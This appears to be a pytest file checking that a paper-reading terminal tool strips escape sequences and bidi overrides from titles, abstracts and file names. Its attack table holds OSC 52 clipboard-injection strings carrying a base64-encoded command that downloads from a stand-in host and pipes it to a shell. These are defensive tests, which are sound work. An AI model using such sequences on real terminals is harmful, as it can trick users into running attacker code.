"""Attacks on the terminal: escape sequences and controls in dumps and file names.

A dump is text copied from a web page. Each attack below puts a terminal control sequence in a
title, an abstract or a file name; none of it (neither the sequence nor its parameters) may
reach a ``Paper``, standard output, standard error, or the bytes the reader writes.
"""

from __future__ import annotations

import os
import select
import signal
import subprocess
import sys
import time
from pathlib import Path

import orjson
import pytest

from paperterm.cli import run
from paperterm.identity import paper_id
from paperterm.loader import load
from paperterm.sanitize import has_controls

HEADER = "Get trending papers in your email inbox!\n"
PAYLOAD = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA"  # base64 of a command: must never be seen anywhere

ATTACKS = {
    "osc52_clipboard_st": f"\x1b]52;c;{PAYLOAD}\x1b\\",
    "osc52_clipboard_bel": f"\x1b]52;c;{PAYLOAD}\x07",
    "osc52_clipboard_c1": f"\x9d52;c;{PAYLOAD}\x9c",
    "osc8_hyperlink": f"\x1b]8;;http://{PAYLOAD}.example/\x1b\\click\x1b]8;;\x1b\\",
    "csi_clear_screen": f"\x1b[2J\x1b[{PAYLOAD}m",
    "csi_c1": f"\x9b2J\x9b{PAYLOAD}m",
    "osc0_window_title": f"\x1b]0;{PAYLOAD}\x07",
    "dcs": f"\x1bP{PAYLOAD}\x1b\\",
    "apc_c1": f"\x9f{PAYLOAD}\x9c",
    "bell_and_c1": f"\x07\x85\x90{PAYLOAD}\x9c",
}


def hostile_dump(payload: str) -> str:
    """A page whose first title and first abstract carry the payload."""
    return (
        "Get trending papers in your email inbox once a day!\n"
        f"Harmless{payload} Title About Sparse Networks\n"
        f"An abstract{payload} that reads as one. It has two sentences.\n"
        "Second Paper Title\n"
        "A plain abstract for the second paper.\n"
    )


def assert_safe(text: str) -> None:
    """Nothing in ``text`` acts on a terminal (file names are shown, escaped, not removed)."""
    assert not has_controls(text.replace("\n", "").replace("\t", "").replace("\r", ""))
    text.encode("utf-8")


def assert_clean(text: str) -> None:
    """Safe, and no trace of the payload: the sequence was removed whole."""
    assert PAYLOAD not in text
    assert_safe(text)


@pytest.fixture(params=sorted(ATTACKS))
def attack(request: pytest.FixtureRequest) -> str:
    return ATTACKS[request.param]


@pytest.fixture
def dump(tmp_path: Path, attack: str) -> Path:
    path = tmp_path / "page.txt"
    path.write_text(hostile_dump(attack), encoding="utf-8")
    return path


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = run(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


def test_escape_sequences_never_reach_a_paper(dump: Path) -> None:
    catalog = load([dump])
    assert catalog.papers[0].title.startswith("Harmless")
    for paper in catalog.papers:
        assert_clean(paper.title)
        assert_clean(paper.abstract)
        assert paper.id == paper_id(paper.title)


def test_escape_sequences_get_one_warning_per_file(dump: Path) -> None:
    warnings = load([dump]).warnings
    said = [line for line in warnings if "control" in line]
    assert len(said) == 1, warnings
    assert said[0].startswith(f"{dump}:2: ")


@pytest.mark.parametrize(
    "argv",
    [
        ["list"],
        ["list", "--json"],
        ["export", "--all"],
        ["export", "--all", "-f", "markdown"],
        ["export", "--all", "-f", "csv"],
        ["export", "--all", "-f", "json"],
    ],
    ids=lambda argv: "-".join(argv),
)
def test_escape_sequences_never_reach_standard_output(
    capsys: pytest.CaptureFixture[str], dump: Path, tmp_path: Path, argv: list[str]
) -> None:
    status, out, err = cli(capsys, *argv, str(dump), "--state", str(tmp_path / "s.json"))
    assert status == 0, err
    assert_clean(out)
    assert_clean(err)


def test_escape_sequences_in_a_dangling_title_never_reach_its_warning(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, attack: str
) -> None:
    path = tmp_path / "dangling.txt"
    page = "".join(f"Title {n}\nAbstract {n} of an ordinary length for a page.\n" for n in range(5))
    path.write_text(f"{HEADER}{page}Last title {attack} left alone\n", encoding="utf-8")
    for command in ("list", "stats"):
        status, out, err = cli(capsys, command, str(path), "--state", str(tmp_path / "s.json"))
        assert status == 0
        assert "title without abstract" in err
        assert_clean(out)
        assert_clean(err)


def test_escape_sequences_in_a_file_name_never_reach_a_message(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, attack: str
) -> None:
    good = tmp_path / "good.txt"
    good.write_text(HEADER + "A Title\nAn abstract.\n", encoding="utf-8")
    bad = tmp_path / f"bad{attack.replace('/', '')}.txt"
    bad.write_bytes(b"")
    for argv in (["list", str(good), str(bad)], ["list", str(bad)], ["add", str(bad)]):
        _, out, err = cli(capsys, *argv, "--state", str(tmp_path / "s.json"))
        assert "empty" in err, argv
        assert_safe(out)
        assert_safe(err)


def test_escape_sequences_in_a_file_name_never_reach_an_export(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, attack: str
) -> None:
    named = tmp_path / f"page{attack.replace('/', '')}.txt"
    named.write_text(HEADER + "A Title\nAn abstract.\n", encoding="utf-8")
    for fmt in ("bibtex", "markdown", "csv", "json"):
        status, out, err = cli(
            capsys, "export", "--all", "-f", fmt, str(named), "--state", str(tmp_path / "s.json")
        )
        assert status == 0, err
        assert_safe(out)
        assert_safe(err)
    status, out, _ = cli(capsys, "list", "--json", str(named), "--state", str(tmp_path / "s.json"))
    assert orjson.loads(out)[0]["sources"][0]["path"].endswith(".txt")


@pytest.mark.parametrize("override", ["\u202e", "\u202d", "\u2067", "\u2066", "\u202b"])
def test_bidi_overrides_never_reorder_the_list(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, override: str
) -> None:
    path = tmp_path / "bidi.txt"
    path.write_text(f"{HEADER}Safe {override}txt.exe Title\nAn abstract.\n", encoding="utf-8")
    status, out, _ = cli(capsys, "list", str(path), "--state", str(tmp_path / "s.json"))
    assert status == 0
    assert out.split("\t")[2] == "Safe txt.exe Title\n"


def test_a_tab_in_a_title_becomes_a_space(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "tab.txt"
    path.write_text(HEADER + "Fake\tsrr\tTitle\nAn\tabstract.\n", encoding="utf-8")
    status, out, _ = cli(capsys, "list", str(path), "--state", str(tmp_path / "s.json"))
    assert status == 0
    assert out.count("\t") == 2
    assert load([path]).papers[0].abstract == "An abstract."


# The reader, in a real pseudo-terminal: the bytes it writes never hold the payload.


def _read_until(fd: int, wanted: bytes, seen: bytearray, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while wanted not in seen:
        left = deadline - time.monotonic()
        if left <= 0:
            return False
        ready, _, _ = select.select([fd], [], [], min(left, 0.5))
        if ready:
            try:
                chunk = os.read(fd, 65536)
            except OSError:
                return wanted in seen
            if not chunk:
                return wanted in seen
            seen.extend(chunk)
    return True


def _drain(fd: int, seen: bytearray, quiet: float) -> None:
    """Read until the reader has been quiet for ``quiet`` seconds (bounded by 20 s)."""
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], quiet)
        if not ready:
            return
        try:
            chunk = os.read(fd, 65536)
        except OSError:
            return
        if not chunk:
            return
        seen.extend(chunk)


@pytest.mark.slow
@pytest.mark.skipif(sys.platform == "win32", reason="needs a POSIX pseudo-terminal")
def test_the_reader_never_writes_the_payload_to_the_terminal(tmp_path: Path) -> None:
    import fcntl
    import pty
    import struct
    import termios

    path = tmp_path / "page.txt"
    payloads = "".join(ATTACKS.values())
    path.write_text(hostile_dump(payloads), encoding="utf-8")
    main, secondary = pty.openpty()
    fcntl.ioctl(secondary, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 120, 0, 0))
    env = {**os.environ, "TERM": "xterm-256color", "COLORTERM": "truecolor"}
    env.pop("TEXTUAL", None)
    child = subprocess.Popen(
        [sys.executable, "-m", "paperterm", str(path), "--state", str(tmp_path / "s.json")],
        stdin=secondary,
        stdout=secondary,
        stderr=secondary,
        env=env,
        start_new_session=True,
    )
    os.close(secondary)
    seen = bytearray()
    try:
        assert _read_until(main, b"Second", seen, timeout=60), bytes(seen[-2000:])
        _drain(main, seen, quiet=1.0)
        os.write(main, b"j")
        _drain(main, seen, quiet=1.0)
        os.write(main, b"k")
        _drain(main, seen, quiet=1.0)
        os.write(main, b"q")
        _drain(main, seen, quiet=1.0)
        child.wait(timeout=30)
    finally:
        if child.poll() is None:
            os.killpg(child.pid, signal.SIGKILL)
            child.wait()
        os.close(main)
    assert b"Harmless" in seen
    assert PAYLOAD.encode() not in seen
    assert b"]52;c;" not in seen
